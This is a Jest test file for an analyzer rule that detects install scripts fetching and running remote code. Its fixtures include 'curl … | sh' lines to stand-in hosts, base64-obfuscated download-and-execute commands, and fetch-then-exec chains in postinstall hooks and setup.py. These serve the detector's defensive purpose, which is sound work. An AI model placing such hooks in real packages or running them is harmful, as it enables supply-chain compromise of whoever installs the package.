import { describe, expect, it } from '@jest/globals';
import { analyze } from '../../../analysis/analyze.js';
import { commandsOf } from './installation.js';

const commands = (scripts: Readonly<Record<string, string>>): readonly string[] =>
  commandsOf(
    { name: 'postinstall', command: scripts['postinstall'] ?? '' },
    { scripts: new Map(Object.entries(scripts)) },
  );

describe('the commands of an installation script', () => {
  it('contain each script once, however often it is called', () => {
    const calls = 'npm run a & npm run postinstall & '.repeat(80);
    expect(commands({ postinstall: calls, a: calls })).toHaveLength(2);
  });

  it('contain those of indirectly called scripts', () => {
    expect(
      commands({ postinstall: 'npm run a', a: 'npm run b', b: 'yarn c', c: 'npm run d', d: 'node e', f: '' }),
    ).toEqual(['npm run a', 'npm run b', 'yarn c', 'npm run d', 'node e']);
  });

  it('are only its own where a called script does not exist', () => {
    expect(commands({ postinstall: 'npm run a' })).toEqual(['npm run a']);
  });
});

describe('the files that an installation script runs', () => {
  const FETCHES =
    'import { execSync } from "node:child_process";\nexecSync("curl https://get.example.net/x | sh");\n';
  const rulesAt = async (postinstall: string): Promise<string[]> => {
    const files = {
      'package.json': JSON.stringify({ name: 'a', scripts: { postinstall } }),
      'x.mjs': FETCHES,
    };
    const { report } = await analyze(
      new Map(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)])),
    );
    return report.findings.flatMap(({ rule_id }) => (rule_id === 'MCP-L005' ? [rule_id] : []));
  };

  it('are those of the package', async () => {
    expect(await rulesAt('node ./y/../x.mjs')).toEqual(['MCP-L005']);
    expect(await rulesAt('node ../x.mjs')).toEqual([]);
  });
});

type Files = Readonly<Record<string, string>>;

/** The findings about an installation, with their locations. */
async function found(files: Files): Promise<string[]> {
  const { report } = await analyze(
    new Map(Object.entries({ 'index.js': '1', ...files }).map(([path, text]) => [path, Buffer.from(text)])),
  );
  return report.findings
    .filter(({ rule_id }) => rule_id === 'MCP-L005')
    .map(({ severity, location }) => `${severity} ${location.file_path}:${location.start_line}`);
}
const npm = (scripts: Files, files: Files): Promise<string[]> =>
  found({ 'package.json': JSON.stringify({ name: 'a', version: '1.0.0', scripts }), ...files });

const RUNS = (command: string): string =>
  `const { execSync } = require('node:child_process');\nexecSync(${JSON.stringify(command)}, { stdio: 'inherit' });\n`;
const PIPE = '#!/bin/sh\nset -e\ncurl -fsSL https://get.relay.net/x | sh\n';
const QUIET = '#!/bin/sh\necho ready\n';

describe('a chain of scripts', () => {
  it.each<readonly [string, Files, Files, readonly string[]]>([
    [
      'code, a shell script',
      { postinstall: 'node a.js' },
      { 'a.js': RUNS('./b.sh'), 'b.sh': PIPE },
      ['critical b.sh:3'],
    ],
    [
      'code, code, a shell script',
      { preinstall: 'node a' },
      { 'a.js': RUNS('node tools/b.js'), 'tools/b.js': RUNS('sh tools/c.sh'), 'tools/c.sh': PIPE },
      ['critical tools/c.sh:3'],
    ],
    [
      'scripts of the manifest',
      { install: 'npm run x', x: 'yarn y', y: './b.sh' },
      { 'b.sh': PIPE },
      ['critical b.sh:3'],
    ],
    [
      'code, a script of the manifest',
      { postinstall: 'node a.js', setup: 'bash b.sh' },
      { 'a.js': RUNS('npm run setup'), 'b.sh': PIPE },
      ['critical b.sh:3'],
    ],
    [
      'shell scripts',
      { postinstall: 'bash a.sh' },
      { 'a.sh': '#!/bin/sh\nsource ./b.sh\n', 'b.sh': PIPE },
      ['critical b.sh:3'],
    ],
    [
      'a shell script and code',
      { postinstall: 'bash a.sh' },
      { 'a.sh': 'node b.js', 'b.js': RUNS('curl https://get.relay.net/x | sh') },
      ['critical b.js:2'],
    ],
    [
      'several lines',
      { postinstall: 'bash a.sh' },
      { 'a.sh': 'curl -o tool https://get.relay.net/tool\nchmod +x tool\n./tool --quiet\n' },
      ['critical a.sh:1'],
    ],
    ['prepare', { prepare: 'node a.js' }, { 'a.js': RUNS('./b.sh'), 'b.sh': PIPE }, ['critical b.sh:3']],
    ['a circle', { postinstall: 'bash a.sh' }, { 'a.sh': './b.sh', 'b.sh': './a.sh' }, ['medium a.sh:1']],
  ])('%s', async (_, scripts, files, expected) => {
    await expect(npm(scripts, files)).resolves.toEqual(expected);
  });

  it.each<readonly [string, Files, Files, readonly string[]]>([
    ['a shell script', { postinstall: './a.sh' }, { 'a.sh': QUIET }, ['medium package.json:1']],
    [
      'a shell script that code runs',
      { preinstall: 'node a.js' },
      { 'a.js': RUNS('sh ./b.sh'), 'b.sh': QUIET },
      ['medium a.js:2'],
    ],
    ['a missing file', { postinstall: 'node scripts/setup.js' }, {}, ['medium package.json:1']],
    ['a missing shell script', { preinstall: 'sh setup.sh' }, {}, ['medium package.json:1']],
  ])('that ends at %s is not known to be harmless', async (_, scripts, files, expected) => {
    await expect(npm(scripts, files)).resolves.toEqual(expected);
  });

  it.each<readonly [Files, Files]>([
    [{ postinstall: 'node a.js' }, { 'a.js': RUNS('node b.js'), 'b.js': 'console.log("ready")' }],
    [{ postinstall: 'node dist/setup.js' }, {}],
    [{ prepare: './a.sh' }, { 'a.sh': QUIET }],
    [{ prepublishOnly: './a.sh', test: 'node missing.js' }, { 'a.sh': PIPE }],
    [{ postinstall: 'node a.js' }, { 'a.js': RUNS('tsc -p .'), 'b.sh': PIPE }],
  ])('that only builds is not reported: %j', async (scripts, files) => {
    await expect(npm(scripts, files)).resolves.toEqual([]);
  });

  it.each([
    [
      'import subprocess\nfrom setuptools import setup\nsubprocess.run(["sh", "native/get.sh"])\nsetup()\n',
      PIPE,
      ['critical native/get.sh:3'],
    ],
    [
      'import os\nfrom setuptools import setup\nos.system("sh native/get.sh")\nsetup()\n',
      QUIET,
      ['medium setup.py:3'],
    ],
    ['from setuptools import setup\nsetup()\n', PIPE, []],
  ])('that starts in setup.py: %j', async (setup, script, expected) => {
    await expect(found({ 'setup.py': setup, 'native/get.sh': script })).resolves.toEqual(expected);
  });
});

const ADDRESS = "Buffer.from('aHR0cHM6Ly9jZG4ucmVsYXkubmV0L2E=', 'base64').toString()";
const COMMAND = "Buffer.from('Y3VybCBodHRwczovL2Nkbi5yZWxheS5uZXQvYSB8IHNo', 'base64').toString()";
const HEAD =
  "const fs = require('node:fs');\nconst { execFileSync, execSync } = require('node:child_process');\n";
const body = (...code: readonly string[]): string => `${HEAD}(async () => {\n${code.join('\n')}\n})();\n`;

describe('code that runs what it fetches', () => {
  it.each<readonly [string, string, readonly string[]]>([
    [
      'through a file',
      body(
        `const text = await (await fetch(${ADDRESS})).text();`,
        "fs.writeFileSync('tools/agent.sh', text);",
        "execSync('sh tools/agent.sh');",
      ),
      ['critical a.js:6'],
    ],
    [
      'as a program',
      body(
        "const data = await (await fetch('https://cdn.relay.net/agent')).arrayBuffer();",
        "fs.writeFileSync('./agent', Buffer.from(data));",
        "execFileSync('./agent', ['--install']);",
      ),
      ['critical a.js:6'],
    ],
    ['by an encoded command', `${HEAD}execSync(${COMMAND});\n`, ['critical a.js:3']],
    ['from an encoded address', `${HEAD}execSync(\`curl \${${ADDRESS}} | sh\`);\n`, ['critical a.js:3']],
    [
      'after a look at its digest',
      body(
        "const { createHash } = require('node:crypto');",
        "const data = Buffer.from(await (await fetch('https://cdn.relay.net/agent')).arrayBuffer());",
        "if (createHash('sha256').update(data).digest('hex') !== 'a3f1') throw new Error('differs');",
        "fs.writeFileSync('./agent', data);",
        "execFileSync('./agent', ['--install']);",
      ),
      [],
    ],
    [
      'not: it runs another file',
      body(
        "const data = await (await fetch('https://cdn.relay.net/words.txt')).text();",
        "fs.writeFileSync('words.txt', data);",
        "execSync('node index.js');",
      ),
      ['medium a.js:4'],
    ],
  ])('%s', async (_, code, expected) => {
    expect(await npm({ postinstall: 'node a.js' }, { 'a.js': code })).toEqual(expected);
  });

  it('is found in setup.py', async () => {
    const code = [
      'import base64, os, urllib.request',
      'address = base64.b64decode("aHR0cHM6Ly9jZG4ucmVsYXkubmV0L2E=").decode()',
      'urllib.request.urlretrieve(address, "/tmp/agent.py")',
      'os.system("python3 /tmp/agent.py")',
    ];
    expect(await found({ 'setup.py': `${code.join('\n')}\n` })).toEqual(['critical setup.py:4']);
  });
});
